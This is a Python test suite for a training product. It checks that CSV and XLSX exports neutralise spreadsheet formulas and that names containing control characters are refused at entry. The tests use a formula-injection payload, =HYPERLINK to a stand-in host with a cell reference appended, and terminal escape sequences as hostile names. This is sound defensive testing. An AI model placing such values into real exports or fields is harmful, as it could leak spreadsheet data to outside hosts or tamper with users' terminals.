"""Names on their way in and out (issue 13, items 2 and 3): every CSV and XLSX the product writes
keeps user text inert (never a formula) and survives control characters stored by older versions;
names and ids with control characters are refused where they are typed (CLI, app, exam run)."""

from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path

import openpyxl
import pytest

from exam_support import KEY, FakeMarker, score_dict, settings_for, small_library, wav_bytes
from test_sessions_support import audio_for, make_record
from trainer.accounts import AccountError, new_account
from trainer.cli import main
from trainer.errors import ExamError, SessionStoreError
from trainer.exam.paper import parse_paper
from trainer.exam.records import roster
from trainer.exam.report import export_roster
from trainer.exam.runner import check_candidate, run_exam
from trainer.sessions import Review, SessionStore
from trainer.sessions.export import export_sessions, steps_csv_path

CORPUS = Path(__file__).parent / "corpus" / "bad_inputs" / "names.txt"
PAPER = "id: names_paper\ntitle: 姓名测试\nquestions: [payment]\nfeedback: hidden\n"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _corpus() -> list[tuple[str, bool]]:
    """(name, refused on the way in) for each line of names.txt."""
    out = []
    for line in CORPUS.read_text(encoding="utf-8").splitlines():
        if not line or line.startswith("#"):
            continue
        refused = line.startswith("refuse: ")
        raw = line.removeprefix("refuse: ")
        out.append((raw.encode("latin-1", "backslashreplace").decode("unicode-escape"), refused))
    return out


NAMES = _corpus()
REFUSED = [name for name, refused in NAMES if refused]
ACCEPTED = [name for name, refused in NAMES if not refused]


def test_the_corpus_is_there() -> None:
    assert len(REFUSED) >= 10 and len(ACCEPTED) >= 12


def _inert(value: object) -> None:
    """A CSV cell as a spreadsheet program reads it: never the start of a formula."""
    assert not (isinstance(value, str) and value.startswith(FORMULA_START)), repr(value)


def _no_formula_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def _store_with_names(root: Path, names: list[str]) -> SessionStore:
    """Sessions saved with plain names, then given `names` in session.json (as an older version might
    have stored them) and reindexed."""
    store = SessionStore(root)
    for i, name in enumerate(names):
        record = store.save(make_record(f"E{i}", "占位", f"2026-11-20T02:{i % 60:02d}:00Z"), audio_for(make_record()))
        path = store.session_dir(record.id) / "session.json"
        data = json.loads(path.read_text(encoding="utf-8"))
        data["trainee_name"] = name
        path.write_text(json.dumps(data), encoding="utf-8")  # ensure_ascii: a lone surrogate survives as \\ud800
    store.reindex()
    return store


# --------------------------------------------------------------------------- out: sessions export


def test_sessions_csv_and_xlsx_keep_every_corpus_name_inert(tmp_path: Path) -> None:
    names = [name for name, _ in NAMES]
    store = _store_with_names(tmp_path / "sessions", names)
    out = tmp_path / "out"
    out.mkdir()
    report = export_sessions(store, None, out / "s.csv")
    assert report.sessions == len(names)
    for path in (out / "s.csv", steps_csv_path(out / "s.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        for row in rows:
            for value in row:
                _inert(value)
    with (out / "s.csv").open(encoding="utf-8-sig", newline="") as fh:
        exported = {row["工号"]: row["姓名"] for row in csv.DictReader(fh)}
    assert exported[f"E{names.index('张三')}"] == "张三"
    assert exported[f"E{names.index('=1+1')}"] == "'=1+1"
    assert exported[f"E{names.index('张' + chr(1) + '三')}"] == "张三"

    export_sessions(store, None, out / "s.xlsx")
    cells = _no_formula_cells(out / "s.xlsx")
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "=HYPERLINK(\"http://x/?\"&A2,\"a\")" in texts  # the exact text, stored as text
    hyperlink = next(c for c in cells if c.value == "=HYPERLINK(\"http://x/?\"&A2,\"a\")")
    assert hyperlink.quotePrefix  # Excel keeps it text even when the cell is edited


def test_the_issue_reproduction_sessions_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`trainer sessions export out.csv` with a trainee named =HYPERLINK(...)."""
    root = tmp_path / "sessions"
    store = SessionStore(root)
    store.save(make_record("E1", "=HYPERLINK(\"http://x/?\"&A2,\"a\")"), audio_for(make_record()))
    monkeypatch.setenv("TRAINER_SESSIONS_DIR", str(root))
    monkeypatch.delenv("TRAINER_CONFIG", raising=False)
    assert main(["sessions", "export", str(tmp_path / "out.csv")]) == 0
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert ",=HYPERLINK" not in text and "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"a\"\")\"" in text


# --------------------------------------------------------------------------- out: exam roster


@pytest.fixture()
def exam_rows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    root = tmp_path / "sessions"
    monkeypatch.setenv("TRAINER_SESSIONS_DIR", str(root))
    monkeypatch.setenv("TRAINER_EXAM_KEY", KEY)
    monkeypatch.delenv("TRAINER_CONFIG", raising=False)
    settings = settings_for(root)
    marker = FakeMarker({"payment": score_dict(92.0)})
    run_exam(parse_paper(PAPER), "C4", "=HYPERLINK(\"http://x/?\"&A2,\"a\")", [[wav_bytes(1)]], settings, small_library(), marker, SessionStore(root))
    return root, roster(root)


def test_the_issue_reproduction_roster_csv_and_xlsx(exam_rows, tmp_path: Path) -> None:
    _root, rows = exam_rows
    assert main(["exam", "list", "--export", str(tmp_path / "r.csv")]) == 0
    assert main(["exam", "list", "--export", str(tmp_path / "r.xlsx")]) == 0
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[1][2] == "'=HYPERLINK(\"http://x/?\"&A2,\"a\")"
    cells = _no_formula_cells(tmp_path / "r.xlsx")
    assert not any("<f>" in str(c.value) for c in cells)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_roster_with_every_corpus_name_exports(exam_rows, tmp_path: Path, suffix: str) -> None:
    """Names stored before they were checked (control characters included) never break the roster."""
    _root, rows = exam_rows
    many = [dataclasses.replace(rows[0], candidate_name=name, reviewer=name, review_comment=name) for name, _ in NAMES]
    path = export_roster(many, tmp_path / f"roster{suffix}")
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    _inert(value)
    else:
        _no_formula_cells(path)


# --------------------------------------------------------------------------- in: refused where typed


@pytest.mark.parametrize("name", REFUSED, ids=repr)
def test_control_characters_are_refused_on_the_way_in(name: str, tmp_path: Path) -> None:
    with pytest.raises(AccountError, match="控制字符"):
        new_account("E1", name, "学员")
    with pytest.raises(AccountError, match="控制字符|不允许的字符"):  # a 工号 is letters, digits and . _ - only
        new_account("E" + name, "张三", "学员")
    with pytest.raises(ExamError, match="控制字符"):
        check_candidate("C4", name)
    store = SessionStore(tmp_path / "sessions")
    with pytest.raises(SessionStoreError, match="控制字符"):
        store.save(make_record("E1", name), audio_for(make_record()))
    with pytest.raises(SessionStoreError, match="控制字符"):
        store.save(make_record("E1" + name, "张三"), audio_for(make_record()))


@pytest.mark.parametrize("name", ACCEPTED, ids=repr)
def test_printable_names_are_accepted(name: str, tmp_path: Path) -> None:
    who = new_account("E1", name, "学员")
    assert who.name == name.replace("\u3000", " ").strip()
    assert check_candidate("C4", name)[1] == who.name
    SessionStore(tmp_path / "sessions").save(make_record("E1", who.name), audio_for(make_record()))


def test_review_with_control_characters_is_refused(tmp_path: Path) -> None:
    store = SessionStore(tmp_path / "sessions")
    record = store.save(make_record(), audio_for(make_record()))
    with pytest.raises(SessionStoreError, match="控制字符"):
        store.add_review(record.id, Review(session_id=record.id, reviewer="王\x01老师", overall="agree"))
    with pytest.raises(SessionStoreError, match="控制字符"):
        store.add_review(record.id, Review(session_id=record.id, reviewer="王老师", overall="agree", comment="好\x1b[2J"))
    store.add_review(record.id, Review(session_id=record.id, reviewer="王老师", overall="agree", comment="第一行\n第二行"))


def test_the_issue_reproduction_exam_run_refuses_the_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """`trainer exam run … --candidate C4 --name "$(printf '张\\x01三')"` is refused before anything is sealed."""
    root = tmp_path / "sessions"
    monkeypatch.setenv("TRAINER_SESSIONS_DIR", str(root))
    monkeypatch.setenv("TRAINER_EXAM_KEY", KEY)
    monkeypatch.delenv("TRAINER_CONFIG", raising=False)
    wav = tmp_path / "a.wav"
    wav.write_bytes(wav_bytes(1))
    assert main(["exam", "run", "hotline_95598_refresher", str(wav), "--candidate", "C4", "--name", "张\x01三"]) == 2
    assert "控制字符" in capsys.readouterr().err
    assert not (root / "exam_ledger.jsonl").exists() or "C4" not in (root / "exam_ledger.jsonl").read_text(encoding="utf-8")


def test_practice_cli_refuses_the_name_before_recording(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("TRAINER_SESSIONS_DIR", str(tmp_path / "sessions"))
    monkeypatch.delenv("TRAINER_CONFIG", raising=False)
    wav = tmp_path / "a.wav"
    wav.write_bytes(wav_bytes(1))
    assert main(["practice", "--scenario", "payment", "--input-file", str(wav), "--trainee", "E1", "--name", "张\x1b[31m三"]) == 2
    assert "控制字符" in capsys.readouterr().err


def test_overlay_decider_with_control_characters_is_refused(tmp_path: Path) -> None:
    from trainer.phrasebook.overlay import Overlay, OverlayError

    with pytest.raises(OverlayError, match="控制字符"):
        Overlay(tmp_path / "overlay").reject("0123abcd", "王\x1b[2J老师")


@pytest.mark.parametrize("field", ["instructor", "comment"])
def test_exam_override_with_control_characters_is_refused(exam_rows, field: str) -> None:
    from trainer.config import load_settings
    from trainer.exam.runner import override_exam

    root, rows = exam_rows
    args = {"instructor": "王老师", "comment": "复核"}
    args[field] = args[field][0] + "\x01" + args[field][1:]
    with pytest.raises(ExamError, match="控制字符"):
        override_exam(load_settings(), rows[0].exam_id, args["instructor"], True, args["comment"], store=SessionStore(root))
